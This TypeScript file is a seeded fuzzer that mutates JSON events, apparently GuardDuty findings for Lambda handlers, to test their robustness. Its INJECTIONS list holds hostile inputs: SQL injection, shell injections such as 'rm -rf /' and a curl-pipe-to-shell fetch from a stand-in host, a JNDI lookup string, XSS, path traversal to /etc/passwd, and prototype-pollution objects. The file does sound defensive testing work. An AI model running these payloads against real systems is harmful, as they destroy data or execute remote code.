/**
 * A small seeded generator of hostile event variants for the fuzz tests. Deterministic: the same
 * seed gives the same events on every machine, so a failing case is reproduced by its index.
 * Every value it makes is something JSON can carry, because Lambda hands handlers parsed JSON.
 */

import { seededRandom } from '../../local/seeded-random';

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
export type Path = Array<string | number>;

/** Strings aimed at SQL, shell, template, log and path handling, plus near-misses of valid ids. */
export const INJECTIONS = [
  "x' OR '1'='1",
  "1.2.3.4'; DROP TABLE conn; --",
  '1.2.3.4 UNION SELECT * FROM dns',
  '"; DROP TABLE conn; --',
  '$(touch /tmp/pwned)',
  '`id`',
  '; rm -rf / #',
  "'; reboot; '",
  '|| curl http://198.51.100.1/x | sh',
  '\nMIRRORHUNT_BUCKET=evil\n',
  'MIRRORHUNT_ENV_END',
  '${jndi:ldap://198.51.100.1/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00%0a',
  '\\x27 OR 1=1',
  'i-0123456789abcdef0; rm -rf /',
  'eni-0123456789abcdef0 OR 1=1',
];

/** Encodings and characters that trip naive string handling. */
export const ODD_CHARACTERS = [
  '\u0000',
  '\r\n',
  '\t',
  '\u001b[31mred\u001b[0m',
  '\u007f',
  '\u202eevil\u202c',
  '\u200b',
  '\ufeff',
  '\ud800',
  '\udfff',
  '💣',
  'e\u0301\u0301\u0301',
  'ｉ-０１２３４５６７８９ａｂｃｄｅｆ０',
  'і-0123456789abcdef0',
  'I-0123456789ABCDEF0',
  ' i-0123456789abcdef0',
  'i-0123456789abcdef0\n',
  'i-0123456789abcdef0x',
  'i-',
  'eni-0123456789abcdef0\u0000',
  '1.2.3.256',
  '::ffff:1.2.3.4',
  '01.002.3.4',
  'NaN',
  '1e309',
  '-1',
  '0x10',
  '',
  ' ',
  '__proto__',
  'constructor',
  'prototype',
];

const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '', ' ', '\u0000', 'a'.repeat(300), '$where', 'detail', 'source'];

export interface Mutation {
  event: unknown;
  /** What was done, for the failure message of a broken case. */
  steps: string[];
}

export interface FuzzerOptions {
  /** Paths the events' consumers read; a share of mutations aims there instead of anywhere. */
  hotPaths?: Path[];
}

const clone = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;
const isObject = (v: unknown): v is Record<string, unknown> => typeof v === 'object' && v !== null && !Array.isArray(v);

/** Sets an own property even for `__proto__`, the way JSON.parse does, so no prototype changes. */
function defineOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function summarise(value: unknown): string {
  if (typeof value === 'string') return value.length > 40 ? `string(${value.length})` : JSON.stringify(value);
  if (Array.isArray(value)) return `array(${value.length})`;
  if (isObject(value)) return `object(${Object.keys(value).length} keys)`;
  return String(value);
}

export class Fuzzer {
  readonly random: () => number;

  constructor(
    readonly seed: number,
    private readonly options: FuzzerOptions = {},
  ) {
    this.random = seededRandom(seed);
  }

  int(maxExclusive: number): number {
    return Math.floor(this.random() * maxExclusive);
  }

  chance(p: number): boolean {
    return this.random() < p;
  }

  pick<T>(list: readonly T[]): T {
    return list[this.int(list.length)] as T;
  }

  /** An injection string, an odd character mix, a very long string, or a combination. */
  string(): string {
    switch (this.int(6)) {
      case 0:
        return this.pick(INJECTIONS);
      case 1:
        return this.pick(ODD_CHARACTERS);
      case 2:
        return this.pick(INJECTIONS) + this.pick(ODD_CHARACTERS) + this.pick(INJECTIONS);
      case 3:
        return this.pick(['A', 'é', '\u0000', "'", '💣']).repeat(this.pick([257, 1025, 4097, 70_000]));
      case 4: {
        // A valid-looking value with something appended or prefixed.
        const valid = this.pick(['i-0123456789abcdef0', 'eni-0123456789abcdef0', '198.51.100.7', 'evil.example.com', 'Backdoor:EC2/C&CActivity.B']);
        return this.chance(0.5) ? valid + this.pick(INJECTIONS) : this.pick(ODD_CHARACTERS) + valid;
      }
      default:
        return Array.from({ length: 1 + this.int(40) }, () => String.fromCharCode(this.int(0x3000))).join('');
    }
  }

  /** A value of any JSON type, often the wrong one for where it lands. */
  value(): Json {
    switch (this.int(14)) {
      case 0:
        return null;
      case 1:
        return this.chance(0.5);
      case 2:
        return this.pick([0, -1, -0.5, 1.5, 10.000001, 11, 1e308, -1e308, 2 ** 53 + 1, 4294967296, 8]);
      case 3:
      case 4:
      case 5:
        return this.string();
      case 6:
        return [];
      case 7:
        return {};
      case 8:
        return this.hugeArray();
      case 9:
        return this.deepObject();
      case 10:
        return this.deepArray();
      case 11:
        return this.pollutingObject();
      case 12:
        return [this.string()];
      default:
        return { value: this.string() };
    }
  }

  /** Many items; sharing one item keeps memory small while the consumer still walks them all. */
  hugeArray(): Json[] {
    const item: Json = this.pick<Json>([{ remoteIpDetails: { ipAddressV4: '198.51.100.7' } }, 'x', 1, null, { instanceId: 'i-0123456789abcdef0' }]);
    return new Array<Json>(this.pick([1001, 10_000, 100_000])).fill(item);
  }

  deepObject(): Json {
    let value: Json = { end: true };
    for (let i = this.pick([50, 1000, 5000]); i > 0; i--) value = { nested: value };
    return value;
  }

  deepArray(): Json {
    let value: Json = [];
    for (let i = this.pick([50, 1000, 5000]); i > 0; i--) value = [value];
    return value;
  }

  pollutingObject(): Json {
    return JSON.parse(
      this.pick([
        '{"__proto__":{"polluted":"yes","isAdmin":true}}',
        '{"constructor":{"prototype":{"polluted":"yes"}}}',
        '{"__proto__":null}',
        '{"prototype":{"polluted":"yes"},"__proto__":[]}',
      ]),
    ) as Json;
  }

  /** Every path in the value (arrays: their first few items), skipping what earlier mutations made huge or deep. */
  paths(root: unknown, limit = 12): Path[] {
    const out: Path[] = [];
    const walk = (value: unknown, path: Path) => {
      if (path.length > limit) return;
      out.push(path);
      if (Array.isArray(value)) value.slice(0, 3).forEach((v, i) => walk(v, [...path, i]));
      else if (isObject(value)) for (const key of Object.keys(value)) walk(value[key], [...path, key]);
    };
    walk(root, []);
    return out;
  }

  /** Applies one to three mutations to a copy of `base`. */
  mutate(base: unknown): Mutation {
    let event: unknown = clone(base);
    const steps: string[] = [];
    // Now and then the whole event is something else entirely.
    if (this.chance(0.02)) {
      const whole = this.pick<Json>([null, [], 'GuardDuty Finding', 42, true, {}, { detail: null }, { detail: [] }]);
      return { event: whole, steps: [`whole event = ${summarise(whole)}`] };
    }
    const count = 1 + this.int(3);
    for (let n = 0; n < count; n++) {
      const hot = this.options.hotPaths ?? [];
      const useHot = hot.length > 0 && this.chance(0.5);
      const path = useHot ? this.pick(hot) : this.pick(this.paths(event).filter((p) => p.length > 0));
      if (!path) continue;
      const op = this.int(7);
      event = this.apply(event, path, op, steps);
    }
    return { event, steps };
  }

  private apply(event: unknown, path: Path, op: number, steps: string[]): unknown {
    const parentPath = path.slice(0, -1);
    const key = path[path.length - 1] as string | number;
    const parent = this.ensure(event, parentPath);
    if (parent === undefined) return event;
    const where = path.join('.');
    const set = (value: unknown, label: string) => {
      if (Array.isArray(parent) && typeof key === 'number') parent[key] = value;
      else if (isObject(parent)) defineOwn(parent, String(key), value);
      steps.push(`${label} ${where}`);
    };
    const current = Array.isArray(parent) && typeof key === 'number' ? parent[key] : isObject(parent) ? parent[String(key)] : undefined;
    switch (op) {
      case 0:
        if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
        else if (isObject(parent)) delete parent[String(key)];
        steps.push(`delete ${where}`);
        return event;
      case 1: {
        const value = this.value();
        set(value, `${summarise(value)} at`);
        return event;
      }
      case 2: {
        const value = this.string();
        set(value, `${summarise(value)} at`);
        return event;
      }
      case 3: {
        // Type confusion: the same content, wrapped or unwrapped.
        const value = Array.isArray(current) ? current[0] : isObject(current) ? Object.values(current)[0] ?? null : this.chance(0.5) ? [current] : String(current);
        set(value, 'retyped');
        return event;
      }
      case 4: {
        if (isObject(current)) {
          const extraKey = this.pick(HOSTILE_KEYS);
          defineOwn(current, extraKey, this.value());
          steps.push(`added key ${JSON.stringify(extraKey.slice(0, 20))} in ${where}`);
          return event;
        }
        const value = this.string();
        set(value, `${summarise(value)} at`);
        return event;
      }
      case 5: {
        if (Array.isArray(current) && current.length > 0) {
          const value = new Array(this.pick([65, 1001, 20_000])).fill(current[0]);
          set(value, `${summarise(value)} (repeated item) at`);
          return event;
        }
        const value = this.pick([this.deepObject(), this.hugeArray(), this.pollutingObject()]);
        set(value, `${summarise(value)} at`);
        return event;
      }
      default: {
        const value = typeof current === 'number' ? this.pick<Json>([-current, current * 1000, String(current), Number.MAX_VALUE, -1]) : this.value();
        set(value, `${summarise(value)} at`);
        return event;
      }
    }
  }

  /** The container at `path`, creating missing objects on the way (so hot paths absent from a base still get hit). */
  private ensure(root: unknown, path: Path): unknown {
    let node = root;
    for (const key of path) {
      if (Array.isArray(node) && typeof key === 'number') {
        node[key] ??= {};
        node = node[key];
      } else if (isObject(node)) {
        if (!Object.hasOwn(node, String(key))) defineOwn(node, String(key), {});
        node = node[String(key)];
      } else {
        return undefined;
      }
    }
    return node;
  }
}

/** Keys found on Object.prototype now that were not there at load: a polluted prototype. */
const PROTOTYPE_KEYS = new Set(Object.getOwnPropertyNames(Object.prototype));
export function prototypePollution(): string[] {
  return Object.getOwnPropertyNames(Object.prototype).filter((k) => !PROTOTYPE_KEYS.has(k));
}
